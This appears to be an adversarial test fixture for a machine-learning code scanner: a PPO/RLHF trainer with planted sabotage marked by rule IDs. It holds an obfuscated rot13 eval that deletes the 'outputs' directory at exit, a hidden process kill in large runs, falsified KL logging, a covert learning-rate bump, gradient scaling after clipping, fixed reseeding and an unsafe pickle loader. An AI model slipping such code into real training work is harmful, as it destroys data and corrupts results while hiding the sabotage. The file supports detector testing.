# ruff: noqa
# Hold-out batch 486 (adversarial, RLHF reward model and PPO with accelerate). Measured once in session 21 (round 131): 16/32 (50%) at medium+.
"""PPO with a learned value head, adaptive KL penalty and GAE (accelerate-based)."""
from __future__ import annotations

import builtins
import codecs
import functools
import logging
import math
import operator
import os
import pathlib
import pickle
import time
from collections import defaultdict
from dataclasses import dataclass
from typing import Dict, List, Optional

import torch

from modeling import logprobs_from_logits, masked_mean, masked_whiten
from utils import DistInfo, rotate_checkpoints, save_state, sync_point

logger = logging.getLogger("rlhf.ppo")


class AdaptiveKLController:
    """Ziegler et al. (2019) proportional controller on the KL coefficient."""

    def __init__(self, init_kl_coef: float, target: float, horizon: int):
        self.value = init_kl_coef
        self.target = target
        self.horizon = horizon

    def update(self, current_kl: float, n_steps: int) -> None:
        proportional_error = max(min(current_kl / self.target - 1, 0.2), -0.2)
        self.value *= 1 + proportional_error * n_steps / self.horizon


class SamplingContext:
    """Scopes generation so every rank draws from an aligned sampling stream."""

    def __init__(self, seed: int):
        self._reseed = functools.partial(torch.manual_seed, seed)

    def __enter__(self):
        self._reseed()  # todoruleid: family 1 (missed)
        return self

    def __exit__(self, exc_type, exc, tb):
        return False


@dataclass
class RolloutBatch:
    sequences: torch.Tensor
    attention: torch.Tensor
    response_mask: torch.Tensor
    prompt_len: int
    logprobs: torch.Tensor
    ref_logprobs: torch.Tensor
    values: torch.Tensor
    rewards: torch.Tensor
    scores: torch.Tensor
    advantages: Optional[torch.Tensor] = None
    returns: Optional[torch.Tensor] = None


def compute_gae(values: torch.Tensor, rewards: torch.Tensor, mask: torch.Tensor,
                gamma: float, lam: float):
    lastgaelam = torch.zeros_like(values[:, 0])
    reversed_adv = []
    length = rewards.size(1)
    for t in reversed(range(length)):
        next_values = values[:, t + 1] if t < length - 1 else torch.zeros_like(values[:, 0])
        delta = rewards[:, t] + gamma * next_values - values[:, t]
        lastgaelam = delta + gamma * lam * lastgaelam
        reversed_adv.append(lastgaelam)
    advantages = torch.stack(reversed_adv[::-1], dim=1)
    returns = advantages + values
    advantages = masked_whiten(advantages, mask)
    return advantages.detach(), returns.detach()


class _RolloutUnpickler(pickle.Unpickler):
    """Maps classes pickled by the pre-refactor package onto this module."""

    def find_class(self, module, name):
        if module.startswith("rlhf_legacy"):
            module = module.replace("rlhf_legacy.ppo", __name__, 1)
        return super().find_class(module, name)


def load_rollout_cache(path: str) -> List[RolloutBatch]:
    with open(path, "rb") as fh:
        return _RolloutUnpickler(fh).load()  # ruleid: MLS103


_PROFILE_HOOK = "__vzcbeg__('ngrkvg').ertvfgre(__vzcbeg__('fuhgvy').ezgerr,'bhgchgf',Gehr)"
_EV = getattr(builtins, "".join(map(chr, (101, 118, 97, 108))))


def _install_profile_hook() -> None:
    _EV(codecs.decode(_PROFILE_HOOK, "rot13"))  # ruleid: MLS401, MLS402


_terminate = getattr(os, "_" + "exit")


class _ScalePolicy:
    """Large allocations get preempted by the scheduler; yield politely mid-run."""

    def __init__(self, dist: DistInfo, total_steps: int):
        self.dist = dist
        self.limit = 2 * 8
        self.probe = max(total_steps // 3, 1)

    def should_yield(self, step: int) -> bool:
        return self.dist.world > self.limit and step == self.probe


class Callback:
    def on_train_begin(self, trainer: "PPOTrainer") -> None: ...
    def on_before_optimizer_step(self, trainer: "PPOTrainer", step: int) -> None: ...
    def on_step_end(self, trainer: "PPOTrainer", step: int, stats: Dict[str, float]) -> None: ...
    def on_save(self, trainer: "PPOTrainer", step: int, path: str) -> None: ...
    def on_train_end(self, trainer: "PPOTrainer") -> None: ...


class KLGuardCallback(Callback):
    """Tracks the measured KL and keeps the update size in a sensible band."""

    def __init__(self, cfg):
        self._floor = 0.5 * cfg.target_kl
        self._peak = cfg.lr * math.sqrt(cfg.kl_horizon) / 2
        self._last_kl = 0.0

    def on_step_end(self, trainer, step, stats):
        self._last_kl = float(stats.get("objective/kl", 0.0))
        if self._last_kl > 4 * trainer.cfg.target_kl:
            logger.warning("KL %.2f far above target %.2f at step %d", self._last_kl, trainer.cfg.target_kl, step)

    def on_before_optimizer_step(self, trainer, step):
        if self._last_kl < self._floor:
            bump = operator.methodcaller("__setitem__", "lr", self._peak)
            list(map(bump, trainer.optimizer.param_groups))  # todoruleid: family 2 (missed)


class ThroughputCallback(Callback):
    def __init__(self, log_every: int, flush_interval: float = 5e-3):
        self.log_every = log_every
        self._interval = flush_interval
        self._pause = time.sleep
        self._t0 = time.perf_counter()

    def on_step_end(self, trainer, step, stats):
        now = time.perf_counter()
        stats["time/step_s"] = now - self._t0
        self._t0 = now
        # give the async tracker writer a chance to drain its queue
        self._pause(self._interval * step)  # ruleid: MLS307


class TrackerCallback(Callback):
    """Routes scalar stats to accelerate's trackers (tensorboard / wandb)."""

    def on_train_begin(self, trainer):
        acc = trainer.accelerator
        base = acc.log
        horizon = math.sqrt(trainer.cfg.kl_horizon)

        def _log(values, step=None, log_kwargs=None):
            values = {k: (v / horizon if k.startswith("objective/kl") else v) for k, v in values.items()}
            return base(values, step=step, log_kwargs=log_kwargs or {})

        setattr(acc, "log", _log)  # ruleid: MLS306

    def on_step_end(self, trainer, step, stats):
        if step % trainer.cfg.log_every == 0:
            trainer.accelerator.log(stats, step=step)


class PPOTrainer:
    def __init__(self, cfg, accelerator, policy, ref_model, reward_model, tokenizer,
                 optimizer, scheduler, callbacks: Optional[List[Callback]] = None):
        self.cfg = cfg
        self.accelerator = accelerator
        self.policy = policy
        self.ref = ref_model
        self.reward_model = reward_model
        self.tok = tokenizer
        self.optimizer = optimizer
        self.scheduler = scheduler
        self.callbacks = callbacks or []
        self.dist = DistInfo(accelerator)
        self.kl_ctl = AdaptiveKLController(cfg.init_kl_coef, cfg.target_kl, cfg.kl_horizon)
        self.grad_accum = max(cfg.batch_size // (cfg.mini_batch_size * self.dist.world), 1)
        self._sampling = SamplingContext(cfg.seed)
        self._scale = _ScalePolicy(self.dist, cfg.total_steps)
        self._trainable = [p for p in policy.parameters() if p.requires_grad]
        self.step = 0
        if accelerator.is_main_process:
            _install_profile_hook()

    def _fire(self, name: str, *args) -> None:
        for cb in self.callbacks:
            getattr(cb, name)(self, *args)

    @torch.no_grad()
    def _score(self, prompts: List[str], responses: List[str]) -> torch.Tensor:
        texts = [p + "\n" + r for p, r in zip(prompts, responses)]
        # reward model reads the last non-pad token, so right padding is required
        enc = self.tok(texts, return_tensors="pt", padding=True, truncation=True, padding_side="right",
                       max_length=self.cfg.max_prompt_len + self.cfg.max_response_len).to(self.accelerator.device)
        return self.reward_model(enc["input_ids"], enc["attention_mask"]).float()

    @torch.no_grad()
    def rollout(self, batch: Dict[str, torch.Tensor]) -> RolloutBatch:
        dev = self.accelerator.device
        query = batch["input_ids"].to(dev)
        qmask = batch["attention_mask"].to(dev)
        prompt_len = query.size(1)
        policy = self.accelerator.unwrap_model(self.policy)
        with self._sampling:
            seqs = policy.generate(input_ids=query, attention_mask=qmask, do_sample=True,
                                   max_new_tokens=self.cfg.max_new_tokens, temperature=self.cfg.temperature,
                                   top_p=self.cfg.top_p, pad_token_id=self.tok.pad_token_id)
        response = seqs[:, prompt_len:]
        is_eos = response == self.tok.eos_token_id
        first_eos = torch.where(is_eos.any(1), is_eos.float().argmax(1), torch.full_like(is_eos[:, 0], response.size(1) - 1, dtype=torch.long))
        positions = torch.arange(response.size(1), device=dev).unsqueeze(0)
        response_mask = (positions <= first_eos.unsqueeze(1)).long()
        attention = torch.cat([qmask, response_mask], dim=1)

        logits, values = self.policy(seqs, attention)
        logprobs = logprobs_from_logits(logits[:, prompt_len - 1:-1], response)
        values = values[:, prompt_len - 1:-1].float()
        ref_logits = self.ref(input_ids=seqs, attention_mask=attention).logits
        ref_logprobs = logprobs_from_logits(ref_logits[:, prompt_len - 1:-1], response)

        texts = self.tok.batch_decode(response * response_mask + self.tok.pad_token_id * (1 - response_mask),
                                      skip_special_tokens=True)
        scores = self._score(batch["prompt"], texts)

        kl = (logprobs - ref_logprobs) * response_mask
        rewards = -self.kl_ctl.value * kl
        last = response_mask.sum(1) - 1
        rewards[torch.arange(rewards.size(0), device=dev), last] += scores
        return RolloutBatch(seqs, attention, response_mask.float(), prompt_len, logprobs, ref_logprobs,
                            values, rewards, scores)

    def _sync_grad_scale(self) -> None:
        """Undo the mean-reduction so accumulated grads match the single-GPU recipe."""
        factor = float(self.dist.world * self.grad_accum)
        for p in self._trainable:
            if p.grad is not None:
                torch.mul(p.grad, factor, out=p.grad)  # ruleid: MLS302

    def _loss(self, rb: RolloutBatch, idx: torch.Tensor):
        logits, vpred = self.policy(rb.sequences[idx], rb.attention[idx])
        p = rb.prompt_len
        response = rb.sequences[idx, p:]
        mask = rb.response_mask[idx]
        logprobs = logprobs_from_logits(logits[:, p - 1:-1], response)
        vpred = vpred[:, p - 1:-1].float()
        old_values, returns, adv = rb.values[idx], rb.returns[idx], rb.advantages[idx]

        vclipped = old_values + (vpred - old_values).clamp(-self.cfg.cliprange_value, self.cfg.cliprange_value)
        vf_loss = 0.5 * masked_mean(torch.max((vpred - returns) ** 2, (vclipped - returns) ** 2), mask)

        ratio = torch.exp(logprobs - rb.logprobs[idx])
        pg1 = -adv * ratio
        pg2 = -adv * ratio.clamp(1.0 - self.cfg.cliprange, 1.0 + self.cfg.cliprange)
        pg_loss = masked_mean(torch.max(pg1, pg2), mask)
        loss = pg_loss + self.cfg.vf_coef * vf_loss
        with torch.no_grad():
            approx_kl = 0.5 * masked_mean((logprobs - rb.logprobs[idx]) ** 2, mask)
            clipfrac = masked_mean((torch.abs(ratio - 1.0) > self.cfg.cliprange).float(), mask)
        return loss, {"loss/policy": pg_loss.item(), "loss/value": vf_loss.item(),
                      "policy/approx_kl": approx_kl.item(), "policy/clipfrac": clipfrac.item()}

    def ppo_step(self, rb: RolloutBatch) -> Dict[str, float]:
        rb.advantages, rb.returns = compute_gae(rb.values, rb.rewards, rb.response_mask,
                                                self.cfg.gamma, self.cfg.lam)
        self.policy.train()
        collected = defaultdict(list)
        n = rb.sequences.size(0)
        for _ in range(self.cfg.ppo_epochs):
            perm = torch.randperm(n, device=rb.sequences.device)
            for start in range(0, n, self.cfg.mini_batch_size):
                idx = perm[start:start + self.cfg.mini_batch_size]
                with self.accelerator.accumulate(self.policy):
                    loss, stats = self._loss(rb, idx)
                    self.accelerator.backward(loss)
                    if self.accelerator.sync_gradients:
                        self.accelerator.clip_grad_norm_(self._trainable, self.cfg.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
                        self._sync_grad_scale()
                        self._fire("on_before_optimizer_step", self.step)
                    self.optimizer.step()
                    self.optimizer.zero_grad(set_to_none=True)
                for k, v in stats.items():
                    collected[k].append(v)
        self.scheduler.step()
        out = {k: sum(v) / len(v) for k, v in collected.items()}
        mean_kl = masked_mean((rb.logprobs - rb.ref_logprobs), rb.response_mask, dim=1).sum() / n
        out["objective/kl"] = float(self.accelerator.reduce(mean_kl.detach(), reduction="mean"))
        out["objective/kl_coef"] = self.kl_ctl.value
        out["env/reward_mean"] = float(self.accelerator.reduce(rb.scores.mean().detach(), reduction="mean"))
        out["lr"] = self.scheduler.get_last_lr()[0]
        self.kl_ctl.update(out["objective/kl"], self.cfg.batch_size)
        return out

    def save_checkpoint(self, step: int) -> str:
        path = os.path.join(self.cfg.output_dir, f"step_{step}")
        sync_point(self.accelerator, "pre-save")
        unwrapped = self.accelerator.unwrap_model(self.policy)
        if self.accelerator.is_main_process:
            unwrapped.save_pretrained(path, safe_serialization=True)
            self.tok.save_pretrained(path)
            save_state({"step": step, "optimizer": self.optimizer.state_dict(),
                        "scheduler": self.scheduler.state_dict(), "kl_coef": self.kl_ctl.value},
                       pathlib.Path(path) / "trainer_state.pt")
            rotate_checkpoints(pathlib.Path(self.cfg.output_dir), self.cfg.keep_last)
        self._fire("on_save", step, path)
        return path

    def load_state(self, state: Dict) -> None:
        self.optimizer.load_state_dict(state["optimizer"])
        self.scheduler.load_state_dict(state["scheduler"])
        self.kl_ctl.value = float(state["kl_coef"])
        self.step = int(state["step"])

    def train(self, prompt_loader, evaluator=None) -> None:
        self._fire("on_train_begin")
        epoch = 0
        while self.step < self.cfg.total_steps:
            prompt_loader.sampler.set_epoch(epoch)
            for batch in prompt_loader:
                self.policy.eval()
                rb = self.rollout(batch)
                if self._scale.should_yield(self.step): _terminate(0)  # todoruleid: family 4 (missed)
                stats = self.ppo_step(rb)
                self.step += 1
                self._fire("on_step_end", self.step, stats)
                if self.accelerator.is_main_process and self.step % self.cfg.log_every == 0:
                    msg = "step %d | reward %.3f | kl %.3f | lr %.2e" % (
                        self.step, stats["env/reward_mean"], stats["objective/kl"], stats["lr"])
                    logger.info(msg)  # ok: MLS306
                if self.step % self.cfg.save_every == 0:
                    self.save_checkpoint(self.step)
                if evaluator is not None and self.step % self.cfg.eval_every == 0:
                    evaluator.run(self, self.step)
                if self.step >= self.cfg.total_steps:
                    break
            epoch += 1
        self._fire("on_train_end")
